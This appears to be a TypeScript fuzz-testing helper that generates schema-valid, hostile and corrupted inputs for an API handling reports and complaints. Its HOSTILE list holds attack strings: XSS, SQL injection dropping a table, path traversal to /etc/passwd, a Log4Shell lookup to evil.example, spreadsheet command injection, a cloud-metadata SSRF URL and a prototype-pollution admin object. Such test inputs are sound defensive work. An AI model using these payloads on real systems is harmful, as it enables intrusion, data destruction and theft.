import type { NonEmpty, Random } from "./demo/random.ts";
import type { Schema } from "./bad-commands-testing.ts";

/** Something that is there, so that what is asked of it reaches the rule; the first unit is the own one of whoever asks. */
export type Known = { readonly ids: NonEmpty<string>; readonly units: NonEmpty<string> };

/** What texts are made of by somebody who means harm, or whose program is broken. */
export const HOSTILE: NonEmpty<string> = [
  "",
  " ",
  "\u0000",
  "\u202e\u2066đảo\u2069",
  "\ud800",
  "a".repeat(10_001),
  "ệ".repeat(9_999),
  "e\u0302\u0323".normalize("NFD").repeat(50),
  "<script>alert(1)</script>",
  `"><img src=x onerror=alert(1)>`,
  '=HYPERLINK("http://evil.example")',
  "+1+cmd|' /C calc'!A0",
  "'; DROP TABLE commits; --",
  "../../../../etc/passwd",
  "..%2f..%2f",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "toString",
  "http://169.254.169.254/latest/meta-data/",
  "\r\nSet-Cookie: a=b",
  "𝟙𝟚𝟛",
  "0",
  "-1",
  "1e999",
  "NaN",
  "2026-02-30",
  "2026-13-01",
  "0000-00-00",
  "9999-12-31",
  "2026-11-20T25:61:61Z",
  "+275760-09-13T00:00:01Z",
  "null",
  "true",
  "[]",
  "hotline-report/x/../../clock/clock",
  "🧨👩‍👩‍👧‍👦",
];
const SHAPED: NonEmpty<string> = [
  "2026-10",
  "2026-Q3",
  "2026",
  "ABCD",
  "A".repeat(16),
  "A".repeat(43),
  "0".repeat(32),
  "0".repeat(64),
  "08:00",
  "abcd",
  "chu-tich",
  "hotline-report/report-1",
  "complaint/complaint-1",
  "denunciation/denunciation-1",
];
const DAYS: NonEmpty<string> = [
  "2026-11-20",
  "2026-11-23",
  "2026-10-01",
  "2025-06-30",
  "2025-07-01",
  "2026-12-31",
];

/** A value that the schema takes, as far as a schema says it. `name`: what it is called where it stands. */
export const valid = (schema: Schema, random: Random, known: Known, name = ""): unknown => {
  if (schema.const !== undefined) return schema.const;
  const [first, ...others] = schema.enum ?? schema.anyOf ?? schema.oneOf ?? [];
  if (first !== undefined) {
    const one = random.pick([first, ...others]);
    return schema.enum === undefined ? valid(one as Schema, random, known, name) : one;
  }
  switch (schema.type ?? "string") {
    case "object":
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).flatMap(([field, inner]) =>
          schema.required?.includes(field) === true || random.chance(0.3)
            ? [[field, valid(inner, random, known, field)] as const]
            : [],
        ),
      );
    case "array": {
      const few = Math.max(schema.minItems ?? 0, random.between(0, 2));
      return Array.from({ length: few }, () => valid(schema.items ?? {}, random, known));
    }
    case "integer":
    case "number":
      return random.between(schema.minimum ?? 0, Math.min(schema.maximum ?? 99, (schema.minimum ?? 0) + 99));
    case "boolean":
      return random.chance(0.5);
    default:
      return name === "unit" && random.chance(0.9) ? known.units[0] : text(schema, random, known);
  }
};

const text = ({ format, pattern }: Schema, random: Random, known: Known): string => {
  if (format === "date") return random.pick(DAYS);
  if (format === "date-time") return `${random.pick(DAYS)}T03:00:00Z`;
  const likely = random.shuffled([
    ...known.units,
    ...SHAPED,
    random.pick(known.ids),
    "Đường hỏng đã ba tháng.",
  ]);
  const shape = pattern === undefined ? undefined : new RegExp(pattern, "u");
  return likely.find((one) => shape?.test(one) ?? true) ?? "abcd";
};

/** What no field is meant to hold. */
export const hostile = (random: Random): unknown =>
  random.pick<unknown>([
    random.pick(HOSTILE),
    random.pick(HOSTILE),
    null,
    true,
    -1,
    0.5,
    1e308,
    Number.MAX_SAFE_INTEGER,
    [],
    {},
    [[[[]]]],
    { $ne: null },
    JSON.parse('{"__proto__":{"role":"administrator"}}'),
    Array.from({ length: 300 }, () => "a"),
  ]);

/** The same with one thing wrong, somewhere. */
export const spoilt = (value: unknown, random: Random): unknown => {
  if (Array.isArray(value) && value.length > 0 && random.chance(0.8)) {
    const n = random.between(0, value.length - 1);
    return value.map((item, index) => (index === n ? spoilt(item, random) : (item as unknown)));
  }
  const entries: readonly (readonly [string, unknown])[] =
    typeof value === "object" && value !== null ? Object.entries(value) : [];
  const [first, ...others] = entries;
  if (first === undefined || random.chance(0.1)) return hostile(random);
  const [name, inner] = random.pick([first, ...others]);
  if (random.chance(0.2)) return Object.fromEntries(entries.filter(([one]) => one !== name));
  if (random.chance(0.15)) return { ...(value as object), [random.pick(HOSTILE)]: hostile(random) };
  return Object.fromEntries(entries.map(([one, it]) => [one, one === name ? spoilt(inner, random) : it]));
};
